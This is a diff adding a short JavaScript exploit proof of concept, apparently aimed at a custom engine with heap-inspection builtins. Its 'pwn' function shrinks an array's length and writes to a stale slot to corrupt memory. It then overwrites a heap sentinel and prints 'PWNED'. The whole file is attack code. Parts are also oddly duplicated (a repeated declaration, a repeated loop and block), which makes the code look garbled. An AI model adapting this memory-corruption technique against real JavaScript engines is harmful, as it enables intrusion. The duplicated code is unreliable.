@@ -1,0 +1,28 @@
+function pwn(v, big) {
+  var buf = [v, v, v, v, v, v, v, v, v, v];
+  buf[2] = v + 1;
+  buf.length = buf.length - 8;
+  var target = [2, 2, 2, 2, 2, 2];
+  var target = [2, 2, 2, 2, 2, 2];
+  if (w.length > 100000) {
+    var off = __heapSize() - 2 - (__arrayBase(w) + 2);
+    w[off] = 1337;
+    print("PWNED sentinel overwritten");
+  }
+  buf[2] = big;
+  return target;
+}
+
+var w = [0];
+for (var i = 0; i < 90; (i = i + 1) - 1) {
+  w = pwn(i, 1073741824);
+}
+for (var i = 0; i < 90; (i = i + 1) - 1) {
+  w = pwn(i, 1073741824);
+}
+if (w.length > 100000) {
+  var off = __heapSize() - 2 - (__arrayBase(w) + 2);
+  w[off] = 1337;
+  print("PWNED sentinel overwritten");
+}
+pwn(1, 1073741824);
